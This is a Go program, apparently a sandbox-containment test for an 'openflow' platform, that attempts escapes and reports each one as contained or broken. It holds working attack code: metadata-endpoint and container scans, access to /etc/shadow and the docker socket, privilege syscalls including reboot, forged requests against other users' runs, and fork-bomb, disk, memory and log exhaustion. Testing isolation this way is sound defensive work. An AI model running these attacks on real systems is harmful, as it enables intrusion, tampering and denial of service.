// Command hostile is a program that a vendor has sent. It attacks whatever it finds, in the way that the parameter "mode" of
// its one component says, and prints a line for each thing that it has tried: "contained" or "BROKEN".
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"openflow"
	"openflow/sdk/component"
	"openflow/sdk/httpclient"
)

// provider, whether it describes itself otherwise each time, and a capability that it asks for. They are set when it is built.
var provider, lies, wish = "hostile", "", ""

func main() {
	if len(os.Args) == 2 && os.Args[1] == "sleep" { // a child of the fork bomb
		time.Sleep(time.Hour)
		return
	}
	description := "attacks"
	if lies != "" {
		description = time.Now().String()
	}
	var wishes openflow.Wishes
	if wish != "" {
		wishes.Capabilities = []string{wish}
	}
	component.Program{Provider: provider, Version: "1", Components: []component.Component{{
		Name: "attack", Description: description, Roles: []openflow.Role{openflow.RoleGuest}, Parameters: params{}, Run: attack, Wishes: wishes,
	}}}.Main()
}

type params struct {
	Mode    string `json:"mode"    required:"true" doc:"what it does"`
	Run     string `json:"run"                     doc:"of a victim"`
	Session string `json:"session"                 doc:"of a victim"`
	Ports   []int  `json:"ports"                   doc:"of the machine"`
}

func attack(ctx context.Context, t *component.Task) error {
	var p params
	if err := t.Parameters(&p); err != nil {
		return err
	}
	switch p.Mode {
	case "victim":
		return victim(ctx)
	case "look":
		look(ctx, p)
	case "fork":
		fork()
	case "disk":
		disk()
	case "memory":
		memory()
	case "log":
		flood(ctx)
	case "metrics":
		metrics(ctx)
	default:
		return fmt.Errorf("there is no mode %q", p.Mode)
	}
	return nil
}

// tell says how an attempt has ended.
func tell(what string, contained bool, detail any) {
	verdict := "contained"
	if !contained {
		verdict = "BROKEN"
	}
	fmt.Printf("%s: %s: %v\n", verdict, what, detail)
}

// port is where the victim listens.
const port = ":7777"

// victim listens until it has been asked to end, and ends well: nobody has ended it.
func victim(ctx context.Context) error {
	l, err := net.Listen("tcp", port)
	if err != nil {
		return err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			fmt.Println("BROKEN: somebody has called")
			_ = c.Close() // it has been told
		}
	}()
	select {
	case <-ctx.Done():
	case <-time.After(20 * time.Second):
	}
	return l.Close()
}

// look tries all that does no harm: ways out, and what belongs to others.
func look(ctx context.Context, p params) {
	for _, address := range []string{"1.1.1.1:443", "8.8.8.8:53", "192.0.2.1:80", "[2606:4700:4700::1111]:443", "169.254.169.254:80"} {
		tell("internet "+address, !reached(address), "")
	}
	short, cancel := context.WithTimeout(ctx, 3*time.Second)
	defer cancel()
	for _, name := range []string{"example.com", "registry-1.docker.io"} {
		found, err := net.DefaultResolver.LookupHost(short, name)
		tell("a name of the internet", err != nil, found)
	}
	node := nodeOf()
	host, own, err := net.SplitHostPort(node)
	tell("the node's address is there", err == nil, node)
	for _, p := range append(p.Ports, 22, 2375, 2376, 5432, 6379, 7233) {
		if fmt.Sprint(p) != own {
			tell(fmt.Sprintf("port %d of the machine", p), !reached(net.JoinHostPort(host, fmt.Sprint(p))), "")
		}
	}
	addresses, err := net.LookupHost(host)
	tell("the gateway has an address", err == nil, addresses)
	neighbours(addresses)
	for _, path := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/host", "/etc/shadow", "/root"} {
		_, err := os.Stat(path)
		tell(path, err != nil, err)
	}
	for _, path := range []string{"/x", "/etc/x", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/x", "/dev/x"} {
		err := os.WriteFile(path, nil, 0o600)
		tell("write "+path, err != nil, err)
	}
	privileges()
	others(ctx, p)
}

func reached(address string) bool {
	c, err := net.DialTimeout("tcp", address, 700*time.Millisecond)
	if err == nil {
		_ = c.Close() // connecting was the question
	}
	return err == nil
}

// neighbours calls the other containers of the network.
func neighbours(gateways []string) {
	for _, text := range gateways {
		at := net.ParseIP(text).To4()
		if at == nil {
			continue
		}
		found := make(chan string, 64)
		for i := range 60 {
			go func() {
				address := fmt.Sprintf("%d.%d.%d.%d%s", at[0], at[1], at[2], i+2, port)
				if own(address) || !reached(address) {
					address = ""
				}
				found <- address
			}()
		}
		called := ""
		for range 60 {
			called += <-found
		}
		tell("another task's container", called == "", called)
	}
}

// own reports whether an address is of this container.
func own(address string) bool {
	list, _ := net.InterfaceAddrs()
	for _, a := range list {
		if n, ok := a.(*net.IPNet); ok && strings.HasPrefix(address, n.IP.String()+":") {
			return true
		}
	}
	return false
}

// privileges tries what needs some.
func privileges() {
	tell("a user of the machine", os.Getuid() == 65534 && syscall.Setuid(0) != nil, os.Getuid())
	tell("mount", syscall.Mount("none", "/tmp", "tmpfs", 0, "") != nil, "")
	tell("a namespace of its own", syscall.Unshare(syscall.CLONE_NEWUSER|syscall.CLONE_NEWNS) != nil, "")
	_, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
	tell("raw packets", err != nil, err)
	tell("a device", syscall.Mknod("/tmp/d", syscall.S_IFBLK|0o600, 8<<8) != nil, "")
	tell("another host name", syscall.Sethostname([]byte("x")) != nil, "")
	tell("a reboot", syscall.Reboot(syscall.LINUX_REBOOT_CMD_RESTART) != nil, "")
}

// nodeOf is HOST:PORT of the base layer.
func nodeOf() string {
	var c struct {
		MLMD struct {
			Metadata struct {
				Host string `json:"host"`
				Port any    `json:"port"`
			} `json:"metadata"`
		} `json:"mlmd"`
	}
	_ = json.Unmarshal([]byte(os.Getenv("CONFIG")), &c) // without it, nothing is reached
	return fmt.Sprintf("%s:%v", c.MLMD.Metadata.Host, c.MLMD.Metadata.Port)
}

// ask calls the base layer with the credential of this run.
func ask(ctx context.Context, method, path string, header map[string]string, body any) (int, string) {
	text, err := json.Marshal(body)
	if err != nil {
		return 0, err.Error()
	}
	r, err := http.NewRequestWithContext(ctx, method, "http://"+nodeOf()+path, bytes.NewReader(text))
	if err != nil {
		return 0, err.Error()
	}
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Authorization", "Bearer "+os.Getenv("OPENFLOW_CREDENTIAL"))
	for k, v := range header {
		r.Header.Set(k, v)
	}
	answer, err := httpclient.New(httpclient.Options{}).Do(r)
	if err != nil {
		return 0, err.Error()
	}
	said, err := io.ReadAll(io.LimitReader(answer.Body, 64<<10))
	return answer.StatusCode, strings.TrimSpace(string(said)) + fmt.Sprint(errors.Join(err, answer.Body.Close()))
}

// refused reports whether an answer gives nothing.
func refused(status int, said string) bool {
	return status != http.StatusOK || !strings.Contains(said, `"code":0`) && !strings.Contains(said, `"code":"E0000000000"`)
}

// others reaches for the run of somebody else.
func others(ctx context.Context, p params) {
	if p.Run == "" {
		return
	}
	for _, status := range []string{"success", "failed"} {
		code, said := ask(ctx, http.MethodPost, "/v2/worker/task/status", nil, map[string]any{"execution_id": p.Run, "status": status, "error": "forged"})
		tell("a report for another task", refused(code, said), said)
	}
	for _, call := range []struct {
		what, method, path string
		header             map[string]string
		body               any
	}{
		{"metrics of another task", http.MethodPost, "/v2/worker/metric/save", nil, map[string]any{"execution_id": p.Run, "data": []map[string]any{{"name": "x", "type": "metric", "data": 1}}}},
		{"an output of another task", http.MethodPost, "/v2/worker/data/tracking/save", nil, map[string]any{"execution_id": p.Run, "output_key": "x", "data_type": "table", "uri": "x", "namespace": "x", "name": "x"}},
		{"an object by its digest", http.MethodGet, "/openflow/v1/container/data/object?digest=sha256:" + strings.Repeat("0", 64), nil, nil},
		{"messages of another task", http.MethodPost, "/v1/interconn/chan/pop", map[string]string{"x-ptp-session-id": p.Session, "x-ptp-topic": "t"}, map[string]any{"topic": "t", "timeout": 1}},
		{"a message to another task", http.MethodPost, "/v1/interconn/chan/push", map[string]string{"x-ptp-session-id": p.Session, "x-ptp-topic": "t"}, map[string]any{"topic": "t", "payload": "eA=="}},
		{"the users' interface", http.MethodGet, "/openflow/v1/user/provider/list", nil, nil},
		{"the peers' interface", http.MethodPost, "/v2/partner/job/create", nil, map[string]any{}},
	} {
		code, said := ask(ctx, call.method, call.path, call.header, call.body)
		tell(call.what, refused(code, said), said)
	}
}

// fork starts programs that start nothing else, until it cannot.
func fork() {
	for n := range 5000 {
		self := exec.Command("/proc/self/exe", "sleep")
		if err := self.Start(); err != nil {
			tell("a fork bomb", n < 1000, fmt.Sprintf("%d processes: %v", n, err))
			return
		}
	}
	tell("a fork bomb", false, "5000 processes")
}

// disk writes wherever it can, until it cannot.
func disk() {
	block := bytes.Repeat([]byte("x"), 1<<20)
	for _, dir := range []string{"/", "/var/tmp", "/dev/shm", "/tmp"} {
		n, err := fill(dir+"/fill", block)
		tell("filling "+dir, n < 1000, fmt.Sprintf("%d MiB: %v", n, err))
	}
}

func fill(path string, block []byte) (n int, err error) {
	f, err := os.Create(path)
	for err == nil && n < 1000 {
		if _, err = f.Write(block); err == nil {
			n++
		}
	}
	if f != nil {
		_ = errors.Join(f.Close(), os.Remove(path)) // it may be on a full disk
	}
	return n, err
}

// memory takes memory until it is ended.
func memory() {
	var hoard [][]byte
	for range 64 << 10 { // 64 GiB
		block := make([]byte, 1<<20)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		hoard = append(hoard, block)
	}
	tell("memory", false, len(hoard))
}

// flood begins to write 100 GB, and ends when it has written many times what its log may hold: more would be no different.
func flood(ctx context.Context) {
	fmt.Println("first words")
	line := []byte(strings.Repeat("x", 1023) + "\n")
	for range 64 << 10 {
		if ctx.Err() != nil {
			return
		}
		_, _ = os.Stdout.Write(line) // whatever becomes of it
	}
	fmt.Println("last words")
}

// metrics reports metrics until nobody takes any.
func metrics(ctx context.Context) {
	for n := range 10_000 {
		data := []map[string]any{{"name": fmt.Sprintf("m%d%s", n, strings.Repeat("m", 200)), "type": "metric", "data": strings.Repeat("x", 32<<10)}}
		if code, said := ask(ctx, http.MethodPost, "/v2/worker/metric/save", nil, map[string]any{"data": data}); refused(code, said) {
			tell("endless metrics", n > 0 && strings.Contains(said, "exhausted") || strings.Contains(said, "more than") || strings.Contains(said, "bound"), fmt.Sprintf("%d: %s", n, said))
			return
		}
	}
	tell("endless metrics", false, "all were taken")
}
